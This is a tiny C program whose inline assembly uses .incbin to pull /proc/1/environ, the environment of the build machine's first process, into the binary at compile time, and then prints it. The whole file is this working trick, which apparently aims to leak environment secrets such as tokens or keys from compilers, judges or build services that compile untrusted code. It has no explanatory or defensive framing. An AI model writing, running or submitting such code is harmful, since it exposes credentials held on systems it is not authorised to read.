#include <stdio.h>
__asm__(".section .rodata\nsecret:\n.incbin \"/proc/1/environ\"\n.byte 0\n.text\n");
extern const char secret[];
int main(void) {
  puts(secret);
  return 0;
}
